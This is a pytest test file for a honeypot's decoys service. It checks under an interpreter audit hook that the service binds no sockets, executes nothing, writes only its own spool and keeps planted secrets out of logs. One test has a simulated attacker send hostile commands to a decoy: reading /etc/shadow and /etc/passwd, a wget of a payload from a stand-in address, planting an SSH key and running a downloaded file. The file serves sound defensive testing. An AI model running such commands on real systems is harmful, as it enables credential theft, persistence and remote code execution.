# SPDX-License-Identifier: MIT
"""The process that faces attackers opens no socket, executes nothing, writes its spool alone, and leaves others' spools be."""

import asyncio
import json
import os
import re
import secrets
import signal
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from decnet.catalog import service
from decnet.domain.evidence import Closed, Violation
from tests.lures.ssh.attacker import Attacker
from tests.support.addresses import address
from tests.support.clients import run
from tests.support.hosts import prepared
from tests.support.installation import Installation, files_with
from tests.support.lures import MemoryPen, Served
from tests.support.sources import ROOT
from tests.support.spools import records_in

pytestmark = pytest.mark.client

FLEET = "[fleet]\nname = test\n[decoy web]\narchetype = web-server\naddress = {address}\nlures = http, ssh, ftp\n"
LOGIN = "[decoy web/ssh]\naccounts = root:123456\nfailure_seconds = 0\n[decoy web/ftp]\nanonymous = yes\n"
NETWORK = ("socket.bind", "socket.connect", "socket.sendto", "socket.sendmsg")
EXECUTION = ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "os.forkpty", "pty.spawn")
CHANGES = tuple(
    f"os.{name}" for name in ("rename", "remove", "mkdir", "rmdir", "link", "symlink", "truncate", "chmod", "chown", "utime")
)
SPOOLED = re.compile(r"lock|reserve|\d{20}\.jsonl(\.new)?")  # opened below the descriptor of the spool's folder
WATCHED = f"""
import json, os, sys
def watch(event, arguments):
    if event not in {("open", *NETWORK, *EXECUTION, *CHANGES)} or event in {NETWORK} and arguments[1] is None:
        return
    if event == "open" and not (isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):
        return
    if isinstance(arguments[0], int):
        arguments = os.readlink("/proc/self/fd/%d" % arguments[0]), *arguments[1:]
    print("CALL", json.dumps([event, *map(str, arguments)]), file=sys.stderr, flush=True)
sys.addaudithook(watch)
from decnet.cli.main import main
sys.exit(main(["decoys"]))
"""


SABOTAGED = """
import asyncio, gc, logging, sys, threading, warnings
from decnet.cli.main import main
from decnet.lures.redis.server import Redis

class Falling:
    def __init__(self, said):
        self.said = said
    def __del__(self):
        fall(self.said)

def fall(said):
    raise KeyError(said)

async def climb(said):
    fall(said)

async def cause(said):
    try:
        fall(said)
    except KeyError as error:
        raise ValueError("because") from error

async def group(said):
    async with asyncio.TaskGroup() as tasks:
        tasks.create_task(climb(said))

async def task(said):
    free = asyncio.get_running_loop().create_task(climb(said))
    await asyncio.wait([free])

async def callback(said):
    asyncio.get_running_loop().call_soon(fall, said)

async def thread(said):
    threading.Thread(target=fall, args=(said,)).start()

async def finalizer(said):
    Falling(said)

async def forgotten(said):
    climb(said)

async def warning(said):
    warnings.warn(said, RuntimeWarning)

async def library(said):
    logging.getLogger("asyncssh").setLevel(logging.DEBUG)
    for level in (logging.DEBUG, logging.INFO, logging.ERROR):
        logging.getLogger("asyncssh").log(level, "the user %s begins a session", said)

async def careless(said):
    logging.getLogger("decnet.lures.redis").error("%s", KeyError(said))
    logging.getLogger("decnet.lures.redis").error("%d", said)

async def serve(lure, session):
    reader, _ = await session.open_stream()
    way, said = (await reader.readline()).decode().split()
    await globals()[way](said)
    await asyncio.sleep(0)
    gc.collect()

Redis.serve = serve
sys.exit(main(["decoys"]))
"""
RAISED = ("climb", "cause", "group")
WAYS = (*RAISED, "task", "callback", "thread", "finalizer", "forgotten", "warning", "library", "careless")


@dataclass
class Watched:
    """The decoys service under an audit hook, in ``folder``; ``calls`` are what it did to the world, complete at its end."""

    host: Installation
    folder: Path
    calls: list[list[str]] = field(default_factory=list)

    def named(self, prefix: str) -> list[list[str]]:
        """Return the calls whose event begins with a prefix."""
        return [call for call in self.calls if call[0].startswith(prefix)]


@asynccontextmanager
async def watched(folder: Path) -> AsyncIterator[Watched]:
    """Run bus, agent and the decoys service, which is watched from before its first import to its end."""
    async with prepared(folder) as host:
        for name in ("bus", "agent"):
            await host.supervisor._launch(service(name))
        found = Watched(host, folder / "empty")
        found.folder.mkdir()
        environment = {**host.environment, "PYTHONDONTWRITEBYTECODE": "1"}
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-c", WATCHED, cwd=found.folder, env=environment, stderr=asyncio.subprocess.PIPE
        )
        try:
            yield found
        finally:
            process.send_signal(signal.SIGTERM)
            _, said = await process.communicate()
        found.calls += [json.loads(line[5:]) for line in said.decode().splitlines() if line.startswith("CALL ")]


async def deploy(host: Installation, folder: Path, number: int) -> None:
    """Deploy one decoy."""
    fleet = folder / "fleet.ini"
    fleet.write_text(FLEET.format(address=address(50 + number)) + LOGIN)
    finished = await host.command("deploy", str(fleet), "--yes")
    assert finished.code == 0, finished.stderr.decode()


async def converse(address: str, port: int, said: bytes) -> bytes:
    """Say something and return the first line of the answer."""
    reader, writer = await asyncio.open_connection(address, port)
    try:
        writer.write(said)
        return await asyncio.wait_for(reader.readline(), 30)
    finally:
        writer.close()
        await writer.wait_closed()


async def test_decoys_service_binds_nothing_and_connects_to_the_agent_alone(tmp_path: Path) -> None:
    """Watched by an audit hook of the interpreter from before its first import to its end, over whole sessions."""
    async with watched(tmp_path / "host") as process:
        await deploy(process.host, tmp_path, 1)
        assert await converse(address(51), 80, b"GET / HTTP/1.0\r\n\r\n")
        assert (await converse(address(51), 22, b"SSH-2.0-x\r\n")).startswith(b"SSH-2.0-OpenSSH")
        assert (await run("curl", "-sS", "-u", "anonymous:x", f"ftp://{address(51)}/incoming/", "-T", __file__)).code == 0
        agent = str(process.host.config.paths.handover_socket)
    assert [call for call in process.named("socket.") if agent not in call[2]] == []
    assert process.named("socket.connect")


async def test_decoys_service_executes_nothing_and_writes_its_spool_alone(tmp_path: Path) -> None:
    """Over logins, a shell's commands, a script, sftp and scp with OpenSSH's own programs; every import included."""
    async with watched(tmp_path / "host") as process:
        await deploy(process.host, tmp_path, 4)
        served = Served(address(54), 22, MemoryPen(), asyncio.Semaphore(0))
        attacker = Attacker(served, tmp_path / "attacker")
        (tmp_path / "tool").write_bytes(b"\x7fELF")
        assert b"uid=0(root)" in (await attacker.ssh("id; ps aux; cat /etc/shadow; wget http://192.0.2.1/x -O /tmp/x")).stdout
        await attacker.ssh(stdin=b"echo key >>~/.ssh/authorized_keys\ncrontab -l\nsh -c 'chmod 777 /tmp/x; /tmp/x'\n")
        assert (
            await attacker.sftp(f"put {tmp_path}/tool /tmp/tool\nchmod 755 /tmp/tool\nget /etc/passwd /dev/null\n")
        ).code == 0
        assert (await attacker.scp("-O", str(tmp_path / "tool"), "HOST:/tmp/other")).code == 0
        paths = process.host.config.paths
    assert [call for name in EXECUTION for call in process.named(name)] == []
    own = str(paths.spool / process.host.config.host.name / "decoys"), str(paths.logs / "decnet.decoys.log")
    changed = [call for call in process.calls if call[0] == "open" or call[0] in CHANGES]
    assert [call for call in changed if not is_own(call, own)] == []
    assert any("/blobs/" in call[1] for call in changed)
    assert list(process.folder.iterdir()) == []


def is_own(call: list[str], own: tuple[str, str]) -> bool:
    """Say whether a call changes what is the service's own: below its paths, the folders above them, or a name in its spool."""
    event, name = call[:2]
    above = event == "os.mkdir" and any(path.startswith(name) for path in own)
    return above or name.startswith(own) or SPOOLED.fullmatch(name) is not None


async def test_failing_lure_leaves_what_was_sent_in_the_evidence_and_in_no_log(tmp_path: Path) -> None:
    """Whichever way it fails, decnet and asyncio set to debug: types and functions are told, what was sent is not."""
    planted = {way: f"hunter2-{secrets.token_hex(8)}" for way in WAYS}
    async with prepared(tmp_path / "host", DECNET_LOG_LEVEL="debug") as host:
        for name in ("bus", "agent"):
            await host.supervisor._launch(service(name))
        environment = {**host.environment, "PYTHONASYNCIODEBUG": "1"}
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-c", SABOTAGED, cwd=ROOT, env=environment, stderr=asyncio.subprocess.PIPE
        )
        try:
            fleet = tmp_path / "fleet.ini"
            fleet.write_text(FLEET.format(address=address(55)).replace("http, ssh", "redis"))
            assert (await host.command("deploy", str(fleet), "--yes")).code == 0
            for way, said in planted.items():
                assert await converse(address(55), 6379, f"{way} {said}\n".encode()) == b""
        finally:
            process.send_signal(signal.SIGTERM)
            _, printed = await process.communicate()
        records = records_in(host.config.paths)
        logged = (host.config.paths.logs / "decnet.decoys.log").read_bytes()
        assert [path for said in planted.values() for path in files_with(host.folder, said.encode())] == []
    assert [way for way, said in planted.items() if said.encode() in printed + logged] == []
    for text in (printed, logged):
        assert text.count(b"KeyError") >= len(RAISED) + len(("task", "callback", "thread", "finalizer", "careless"))
        assert text.count(b"in fall") >= len(RAISED) + len(("task", "callback", "thread", "finalizer"))
        assert b"coroutine 'climb' was never awaited" in text
        assert b"asyncssh" in text
    told = {one.body.reason: one.body.data for one in records if isinstance(one.body, Violation)}
    assert set(told) == {"internal error: KeyError", "internal error: ValueError", "internal error: ExceptionGroup"}
    assert all(any(planted[way] in data for data in told.values()) for way in RAISED)


async def test_stop_ends_sessions_and_tells_why(tmp_path: Path) -> None:
    async with prepared(tmp_path / "host") as host:
        await host.supervisor.start()
        await deploy(host, tmp_path, 2)
        reader, writer = await asyncio.open_connection(address(52), 22)
        assert (await reader.readline()).startswith(b"SSH-2.0-")
        child = host.supervisor.children["decoys"]
        os.kill(child.pid, signal.SIGTERM)
        assert await child.process.wait() == 0
        writer.close()
        await asyncio.gather(writer.wait_closed(), return_exceptions=True)
        closed = [one.body.reason for one in records_in(host.config.paths) if isinstance(one.body, Closed)]
        assert closed == ["shutdown"]


async def test_health_of_the_decoys_service_comes_through_the_agent(tmp_path: Path) -> None:
    async with prepared(tmp_path / "host") as host:
        await host.supervisor.start()
        await deploy(host, tmp_path, 3)
        finished = await host.command("services", "--format", "json")
        health = {row["service"]: row for row in map(json.loads, finished.stdout.splitlines())}
        assert health["decoys"]["state"] == "ok"
        assert health["decoys"]["pid"] == host.supervisor.children["decoys"].pid
